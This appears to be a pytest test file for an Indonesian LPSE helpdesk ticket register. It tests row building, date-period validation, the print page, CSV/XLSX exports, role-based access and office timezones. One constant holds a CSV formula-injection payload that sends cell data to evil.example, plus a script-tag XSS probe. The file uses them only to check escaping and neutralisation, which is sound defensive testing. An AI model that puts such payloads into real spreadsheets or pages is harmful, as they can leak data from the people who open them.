"""The Standar LPSE helpdesk register (issue 7, item 3): the rows folded from each ticket's history, the print
page, the CSV and XLSX files, who may see it, and the periods it refuses.

The history: in November 2026 the office LPSE Kabupaten Uji (WIB) took a phone call from a supplier that Dewi
(helpdesk) noted, escalated to the verifiers, answered by phone and Budi (verifikator) resolved the next day; an
email nobody has touched yet; an email Dewi answered by email, gave to Budi and resolved with the automatic notice;
a walk-in consultation answered in person; a phone call escalated to Budi with the requester told. Tickets at the
edges of the month and one of another office show the period is the office's local dates.
"""
from __future__ import annotations

import csv
import html
import io
from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from flask_babel import force_locale, gettext
from openpyxl import load_workbook
from sqlalchemy import event

from helpdesk import escalations, register, tickets
from helpdesk.errors import ValidationError
from helpdesk.extensions import db
from helpdesk.models import Office
from helpdesk.register import COLUMNS, REGISTER_TITLE, XLSX_HEADER_ROW, parse_period, register_rows
from helpdesk.reports import local_bounds, local_today
from helpdesk.timeutil import utcnow

WIB = ZoneInfo("Asia/Jakarta")
NOVEMBER = "dari=2026-11-01&sampai=2026-11-30"
DESCRIPTION = ("Saat mengunggah dokumen penawaran untuk paket 10012345000 muncul pesan galat \"Gagal enkripsi\".\n\n"
               "Sudah dicoba dengan Apendo terbaru dan dua peramban. " + "Mohon bantuan segera. " * 20)
SOLUTION = "Akun penyedia diaktifkan ulang oleh verifikator; unggah dokumen penawaran berhasil."
ANSWER = "Reset kata sandi lewat menu Lupa Kata Sandi, lalu masuk kembali dengan kata sandi baru."
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik") <script>alert(1)</script>'


def wib(day: int, hour: int, minute: int = 0, month: int = 11) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=WIB)


@pytest.fixture
def dewi(make_staff):
    return make_staff(role="helpdesk", name="Dewi Lestari", email="dewi@lpse.example.go.id")


@pytest.fixture
def budi(make_staff):
    return make_staff(role="verifikator", name="Budi Santoso", email="budi@lpse.example.go.id")


@pytest.fixture
def history(office, make_office, make_requester, make_ticket, dewi, budi):
    """The month's tickets, by name, built through the ticket service with explicit times."""
    siti = make_requester(name="Siti Aminah", organization="CV Maju Jaya", spse_role="penyedia",
                          phone="0812-3456-7890", email="siti@majujaya.example.co.id")
    call = tickets.open_ticket(office=office, requester=siti, channel="phone", actor=dewi,
                               subject="Gagal unggah dokumen penawaran", body=DESCRIPTION, received_at=wib(24, 10),
                               ticket_type="problem", is_technical=True, kind="software", urgency="urgent",
                               impact="high", priority="medium")
    tickets.add_note(call, body="Sudah dicoba di dua peramban, galat sama.", actor=dewi, at=wib(24, 10, 15))
    tickets.escalate(call, role="verifikator", actor=dewi, reason="Perlu cek status akun penyedia.",
                     at=wib(24, 10, 20))
    tickets.add_message(call, direction="outbound", body="Sedang diperiksa verifikator.", actor=dewi, via="phone",
                        at=wib(24, 10, 40))
    tickets.resolve(call, actor=budi, solution=SOLUTION, at=wib(25, 9))

    untouched = make_ticket(channel="email", subject="Tanya jadwal pelatihan", body="Kapan pelatihan berikutnya?",
                            received_at=wib(25, 8),
                            requester=make_requester(name="Rina", email="rina@dinas.example.go.id",
                                                     organization="Dinas PU", spse_role="ppk"))

    mailed = tickets.open_ticket(office=office, channel="email", subject="Lupa kata sandi", body="Tidak bisa masuk.",
                                 received_at=wib(26, 9), ticket_type="request", is_technical=False,
                                 kind="procedure", urgency="not_urgent", impact="low", priority="low",
                                 requester=make_requester(name="Andi", email="andi@cv.example.co.id"))
    tickets.add_message(mailed, direction="outbound", body=ANSWER, actor=dewi, via="email", at=wib(26, 9, 30))
    tickets.assign(mailed, budi, actor=dewi, at=wib(26, 9, 35))
    tickets.resolve(mailed, actor=budi, solution=ANSWER, at=wib(26, 11))

    visit = make_ticket(channel="walkin", subject="Konsultasi SIKaP", body="Cara mengisi data SIKaP.",
                        received_at=wib(27, 9), requester=make_requester(name="Joko", email=None,
                                                                          phone="081298765432"))
    tickets.record_consultation(visit, analysis="Belum tahu menu SIKaP.", answer="Isi lewat menu Data Penyedia.",
                                outcome="solved", officer=dewi, service_type="consultation", at=wib(27, 9, 20))
    tickets.change_status(visit, "resolved", actor=dewi, at=wib(27, 9, 25))  # no note: the answer is the solution

    escalated = make_ticket(channel="phone", subject="Akun terkunci", body="", received_at=wib(27, 14),
                            requester=make_requester(name="Wati", email=None, phone="+62285123456"))
    escalations.escalate_internal(escalated, actor=dewi, reason="Butuh akses admin.", officer=budi,
                                  requester_told=True, at=wib(27, 14, 5))
    escalations.escalate_to_lkpp(escalated, actor=budi, channel="phone", reason="Akun terkunci di SPSE pusat.",
                                 at=wib(27, 15))

    first = make_ticket(subject="Tengah malam awal bulan", received_at=wib(1, 0))
    last = make_ticket(subject="Tengah malam akhir bulan", received_at=wib(30, 23, 59))
    make_ticket(subject="Sebelum periode", received_at=wib(31, 23, 59, month=10))
    make_ticket(subject="Sesudah periode", received_at=wib(1, 0, month=12))
    other = make_office(code="lain", name="LPSE Lain", ticket_prefix="LAIN")
    make_ticket(subject="Kantor lain", received_at=wib(24, 11), office=other)
    db.session.commit()
    return {"call": call, "untouched": untouched, "mailed": mailed, "visit": visit, "escalated": escalated,
            "first": first, "last": last}


def _row(rows, ticket):
    return next(row for row in rows if row.ref == ticket.ref)


def _id(text) -> str:
    """A translatable text as the default locale shows it (Indonesian, whether or not the catalogue has it yet)."""
    with force_locale("id"):
        return gettext(text) if isinstance(text, str) else str(text)


# -- the rows -------------------------------------------------------------------------------------------------

def test_the_period_is_the_offices_local_dates_in_order_of_receipt(office, history):
    rows = register_rows(office, date(2026, 11, 1), date(2026, 11, 30))
    names = ("first", "call", "untouched", "mailed", "visit", "escalated", "last")
    assert [row.ref for row in rows] == [history[name].ref for name in names]
    assert [row.ref for row in register_rows(office, date(2026, 11, 24), date(2026, 11, 24))] == [history["call"].ref]
    assert register_rows(office, date(2026, 12, 2), date(2026, 12, 31)) == []


def test_a_handled_ticket_fills_every_column(office, history, english):
    row = _row(register_rows(office, date(2026, 11, 1), date(2026, 11, 30)), history["call"])
    tz = office.timezone
    assert (row.ref, row.reporter, row.organization) == (history["call"].ref, "Siti Aminah", "CV Maju Jaya")
    assert (row.email, row.phone) == ("siti@majujaya.example.co.id", "+62 812-3456-7890")
    assert (row.channel_label(), row.received_at) == ("Phone", wib(24, 10))
    assert row.subject == "Gagal unggah dokumen penawaran"
    assert row.description.startswith('Saat mengunggah dokumen penawaran untuk paket 10012345000 muncul pesan galat '
                                      '"Gagal enkripsi". Sudah dicoba')  # on one line
    assert row.description.endswith("…") and len(row.description) <= register.DESCRIPTION_CHARS + 1
    assert (row.ticket_type_label(), row.technical_label(), row.requester_role_label(), row.kind_label(),
            row.urgency_label(), row.impact_label(), row.priority_label()) == (
        "Problem", "Technical", "Supplier (Penyedia)", "Software", "Urgent", "High", "Medium")
    assert row.status_label() == "Resolved"
    # nobody is assigned (the escalation went to a role): the officer who logged the call handled it first
    assert (row.officer, row.handled_at) == ("Dewi Lestari", wib(24, 10))
    assert row.notes_text(tz).splitlines() == [
        "24/11/2026 10:15 Dewi Lestari: Sudah dicoba di dua peramban, galat sama.",
        "24/11/2026 10:20 Dewi Lestari: Escalated to Verifier: Perlu cek status akun penyedia.",
    ]
    assert (row.solution, row.resolved_at) == (SOLUTION, wib(25, 9))
    assert (row.told, row.told_via, row.told_label()) == (True, ("phone",), "Yes (phone)")


def test_officer_solution_and_told_follow_each_history(office, history, english):
    rows = register_rows(office, date(2026, 11, 1), date(2026, 11, 30))
    row = _row(rows, history["untouched"])  # nobody touched it yet
    assert (row.reporter, row.organization, row.phone, row.channel_label()) == ("Rina", "Dinas PU", "", "Email")
    assert row.requester_role_label() == "Commitment officer (PPK)"
    assert (row.ticket_type_label(), row.technical_label(), row.kind_label(), row.urgency_label(),
            row.impact_label(), row.priority_label()) == ("", "", "", "", "", "")
    assert (row.officer, row.handled_at, row.notes, row.solution, row.resolved_at) == ("", None, (), "", None)
    assert (row.told, row.told_label()) == (False, "Not yet")

    mailed = _row(rows, history["mailed"])
    assert (mailed.officer, mailed.handled_at) == ("Budi Santoso", wib(26, 9, 30))  # the reply was the first act
    assert (mailed.technical_label(), mailed.urgency_label(), mailed.impact_label()) == (
        "Non-technical", "Not urgent", "Low")
    assert (mailed.solution, mailed.resolved_at, mailed.told_label()) == (ANSWER, wib(26, 11), "Yes (email)")
    assert mailed.notes == ()

    visit = _row(rows, history["visit"])  # resolved without a note: the consultation answer is the solution
    assert (visit.officer, visit.handled_at) == ("Dewi Lestari", wib(27, 9, 20))
    assert (visit.solution, visit.resolved_at) == ("Isi lewat menu Data Penyedia.", wib(27, 9, 25))
    assert (visit.channel_label(), visit.phone, visit.told_label()) == ("Walk-in", "+62 812-9876-5432",
                                                                        "Yes (in person)")

    escalated = _row(rows, history["escalated"])  # told of the escalation by the officer, no message on record
    assert (escalated.officer, escalated.status_label(), escalated.solution) == ("Budi Santoso", "Escalated", "")
    assert escalated.notes_text(office.timezone).splitlines() == [
        "27/11/2026 14:05 Dewi Lestari: Escalated to Budi Santoso: Butuh akses admin.",
        "27/11/2026 15:00 Budi Santoso: Escalated to Helpdesk LKPP (phone): Akun terkunci di SPSE pusat."]
    assert (escalated.told, escalated.told_via, escalated.told_label()) == (True, (), "Yes (escalation notice)")


def test_a_reopened_ticket_has_no_solution(office, make_ticket, dewi, english):
    ticket = make_ticket(status="resolved", received_at=wib(10, 9))
    tickets.reopen(ticket, actor=dewi, reason="Masih gagal.", at=wib(10, 11))
    db.session.commit()
    [row] = register_rows(office, date(2026, 11, 10), date(2026, 11, 10))
    assert (row.status_label(), row.solution, row.resolved_at) == ("In progress", "", None)


def test_the_register_takes_two_queries_however_many_tickets(app, office, make_ticket, dewi):
    def queries_for(count: int) -> int:
        for n in range(count):
            ticket = make_ticket(received_at=wib(2, 9, n), status="resolved")
            tickets.add_note(ticket, body="catatan", actor=dewi, at=wib(2, 10, n))
        db.session.commit()
        db.session.expire_all()
        tz = office.timezone  # the office is the caller's, loaded already
        statements = []
        listener = lambda *args: statements.append(args[2])
        event.listen(db.engine, "before_cursor_execute", listener)
        try:
            rows = register_rows(office, date(2026, 11, 1), date(2026, 11, 30))
            for row in rows:  # everything the page shows is read already
                row.notes_text(tz), row.told_label(), row.channel_label()
        finally:
            event.remove(db.engine, "before_cursor_execute", listener)
        return len(statements)

    assert queries_for(1) == 2
    assert queries_for(5) == 2


# -- the period -----------------------------------------------------------------------------------------------

def test_no_dates_is_the_current_month_to_today():
    assert parse_period(None, None, today=date(2026, 11, 24)) == (date(2026, 11, 1), date(2026, 11, 24))
    assert parse_period(None, None, today=date(2026, 12, 1)) == (date(2026, 12, 1), date(2026, 12, 1))
    assert parse_period(" 2026-11-01", "2026-11-30 ", today=date(2026, 11, 24)) == (
        date(2026, 11, 1), date(2026, 11, 30))


@pytest.mark.parametrize("start, end", [
    ("2026-11-01", None), ("", "2026-11-30"), ("kemarin", "2026-11-30"), ("2026-02-30", "2026-03-01"),
    ("20261101", "20261130"), ("2026-11-30", "2026-11-01"), ("2025-11-01", "2026-12-06"),
    ("0001-01-01", "0001-01-02"), ("9999-12-30", "9999-12-31"),
])
def test_a_period_that_cannot_be_read_or_is_too_long_is_refused(start, end):
    with pytest.raises(ValidationError):
        parse_period(start, end, today=date(2026, 11, 24))


def test_four_hundred_days_is_the_longest_period():
    assert parse_period("2025-11-01", "2026-12-05", today=date(2026, 11, 24)) == (
        date(2025, 11, 1), date(2026, 12, 5))


# -- the pages and files --------------------------------------------------------------------------------------

@pytest.fixture
def signed_in(client, login, dewi):
    login(client, dewi)
    return client


def test_the_print_page_lists_the_period_under_the_offices_header(signed_in, office, history):
    response = signed_in.get(f"/register?{NOVEMBER}")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    assert "LPSE Kabupaten Uji" in page and REGISTER_TITLE in page
    assert 'data-start="2026-11-01" data-end="2026-11-30"' in page and 'data-count="7"' in page
    positions = [page.index(f'data-ref="{history[name].ref}"')
                 for name in ("first", "call", "untouched", "mailed", "visit", "escalated", "last")]
    assert positions == sorted(positions)
    assert "Siti Aminah" in page and "+62 812-3456-7890" in page and "24/11/2026 10.00" in page
    assert SOLUTION in page and _id("Technical") in page
    assert 'href="/register.csv?dari=2026-11-01&amp;sampai=2026-11-30"' in page
    assert 'href="/register.xlsx?dari=2026-11-01&amp;sampai=2026-11-30"' in page
    assert "<script>" not in page  # no inline script: print.js is loaded by its src
    assert response.headers["Cache-Control"] == "private, no-cache"
    css = signed_in.get("/static/register.css")
    assert css.status_code == 200 and css.mimetype == "text/css" and b"A4 landscape" in css.data


def test_requester_text_is_escaped_on_the_page_and_inert_in_the_files(signed_in, office, make_ticket):
    make_ticket(subject=HOSTILE, body="-2+3 \x07bel", received_at=wib(3, 9))
    page = signed_in.get(f"/register?{NOVEMBER}").get_data(as_text=True)
    assert "<script>alert(1)</script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page

    lines = list(csv.reader(io.StringIO(signed_in.get(f"/register.csv?{NOVEMBER}").data.decode("utf-8-sig"))))
    subject = lines[0].index(_id(COLUMNS[7].header))
    assert lines[1][subject] == "'" + HOSTILE  # a spreadsheet would run it as a formula: kept as text
    assert lines[1][subject + 1] == "'-2+3 \x07bel"

    sheet = load_workbook(io.BytesIO(signed_in.get(f"/register.xlsx?{NOVEMBER}").data))["Register"]
    cell = sheet.cell(row=XLSX_HEADER_ROW + 1, column=subject + 1)
    assert (cell.value, cell.data_type) == (HOSTILE, "s")  # a string, never a formula
    assert sheet.cell(row=XLSX_HEADER_ROW + 1, column=subject + 2).value == "-2+3 bel"  # no control characters


def test_the_csv_and_the_xlsx_have_the_indonesian_header_and_the_same_rows(signed_in, office, history):
    response = signed_in.get(f"/register.csv?{NOVEMBER}")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="register-helpdesk-TST-2026-11-01-2026-11-30.csv"')
    assert response.data.startswith(b"\xef\xbb\xbf")  # the BOM: spreadsheets read UTF-8
    lines = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    header, body = lines[0], lines[1:]
    assert header == [_id("No."), *(_id(column.header) for column in COLUMNS)]
    assert "Saluran" in header and "Dampak" in header  # labels the catalogue translates already
    assert [line[1] for line in body] == [history[name].ref for name in
                                          ("first", "call", "untouched", "mailed", "visit", "escalated", "last")]
    call = dict(zip(header, body[1]))
    assert call[_id("No.")] == "2"
    assert call[_id(COLUMNS[1].header)] == "Siti Aminah"
    assert call[_id(COLUMNS[4].header)] == "+62 812-3456-7890"  # a phone number is left as it is
    assert call[_id(COLUMNS[6].header)] == "2026-11-24 10:00"  # local time
    assert call[_id(COLUMNS[10].header)] == _id("Technical")
    assert call[_id(COLUMNS[18].header)] == "2026-11-24 10:00"
    assert call[_id(COLUMNS[19].header)].splitlines()[0] == (
        "24/11/2026 10.15 Dewi Lestari: Sudah dicoba di dua peramban, galat sama.")
    assert call[_id(COLUMNS[20].header)] == SOLUTION
    assert call[_id(COLUMNS[21].header)] == "2026-11-25 09:00"
    untouched = dict(zip(header, body[2]))
    assert untouched[_id(COLUMNS[22].header)] == _id("Not yet")

    response = signed_in.get(f"/register.xlsx?{NOVEMBER}")
    assert response.status_code == 200 and response.mimetype == register.XLSX_CONTENT_TYPE
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="register-helpdesk-TST-2026-11-01-2026-11-30.xlsx"')
    sheet = load_workbook(io.BytesIO(response.data))["Register"]
    assert sheet["A1"].value == REGISTER_TITLE and sheet["A2"].value == "LPSE Kabupaten Uji"
    assert "2026" in sheet["A3"].value
    assert sheet.page_setup.orientation == "landscape"

    def text(value) -> str:
        if value is None:
            return ""
        return value.strftime("%Y-%m-%d %H:%M") if isinstance(value, datetime) else str(value)

    table = [[text(value) for value in line] for line in sheet.iter_rows(min_row=XLSX_HEADER_ROW, values_only=True)]
    assert table == lines
    received = sheet.cell(row=XLSX_HEADER_ROW + 2, column=8).value
    assert received == datetime(2026, 11, 24, 10, 0)  # a real date, in the office's local time


def test_bad_dates_get_a_message_on_the_page_not_an_error(signed_in, english):
    cases = {
        "dari=2026-11-01": "Choose both the first and the last day",
        "dari=&sampai=2026-11-30": "Choose both the first and the last day",
        "dari=kemarin&sampai=2026-11-30": "'kemarin' is not a date; write it as YYYY-MM-DD.",
        "dari=2026-02-30&sampai=2026-03-01": "'2026-02-30' is not a date",
        "dari=2026-11-30&sampai=2026-11-01": "The period ends (2026-11-01) before it starts (2026-11-30).",
        "dari=2025-01-01&sampai=2026-02-05": "The period has 401 days; a register covers at most 400.",
        "dari=9999-12-31&sampai=9999-12-31": "outside the years",
        "dari=%3Cb%3Ex&sampai=2026-11-30": "'<b>x' is not a date",
    }
    for query, message in cases.items():
        for path in ("/register", "/register.csv", "/register.xlsx"):
            response = signed_in.get(f"{path}?{query}")
            assert response.status_code == 400, (path, query)
            assert response.mimetype == "text/html" and "Content-Disposition" not in response.headers
            page = response.get_data(as_text=True)
            assert 'id="period-error"' in page and message in html.unescape(page), (path, query)
            assert "<b>" not in page


def test_the_register_is_for_the_helpdesk_the_head_and_administrators(app, login, make_staff):
    paths = (f"/register?{NOVEMBER}", f"/register.csv?{NOVEMBER}", f"/register.xlsx?{NOVEMBER}")
    anonymous = app.test_client()
    for path in paths:
        response = anonymous.get(path)
        assert response.status_code == 302 and response.location.startswith("/login"), path
    for role, allowed in (("helpdesk", True), ("kepala", True), ("admin", True), ("verifikator", False),
                          ("trainer", False), ("admin_ppe", False)):
        client = app.test_client()
        login(client, make_staff(role=role))
        for path in paths:
            assert client.get(path).status_code == (200 if allowed else 403), (role, path)
        client.post("/logout")


def test_each_office_sees_its_own_register_and_an_empty_one_says_so(client, login, make_office, make_staff,
                                                                   make_ticket, english):
    ticket = make_ticket(received_at=wib(24, 10))
    other = make_office(code="lain2", name="LPSE Kota Lain", ticket_prefix="KL")
    login(client, make_staff(role="kepala", office=other))
    page = client.get(f"/register?{NOVEMBER}").get_data(as_text=True)
    assert "LPSE Kota Lain" in page and ticket.ref not in page
    assert "No tickets were received in this period." in page and 'data-count="0"' in page
    lines = list(csv.reader(io.StringIO(client.get(f"/register.csv?{NOVEMBER}").data.decode("utf-8-sig"))))
    assert len(lines) == 1  # the header only
    sheet = load_workbook(io.BytesIO(client.get(f"/register.xlsx?{NOVEMBER}").data)).active
    assert sheet.max_row == XLSX_HEADER_ROW and "0 tickets" in sheet["A3"].value

    today = local_today(other, utcnow())  # without dates: the current month up to today
    page = client.get("/register").get_data(as_text=True)
    assert f'data-start="{today.replace(day=1).isoformat()}" data-end="{today.isoformat()}"' in page


def test_the_period_bounds_follow_the_offices_zone():
    wita = Office(code="wita", name="LPSE WITA", ticket_prefix="WT", timezone="Asia/Makassar")
    since, until = local_bounds(wita, date(2026, 11, 1), date(2026, 11, 30))
    assert (since, until) == (datetime(2026, 10, 31, 16, tzinfo=ZoneInfo("UTC")),
                              datetime(2026, 11, 30, 16, tzinfo=ZoneInfo("UTC")))
    assert until - since == timedelta(days=30)
    assert register.filename(wita, date(2026, 11, 1), date(2026, 11, 30), "xlsx") == (
        "register-helpdesk-WT-2026-11-01-2026-11-30.xlsx")
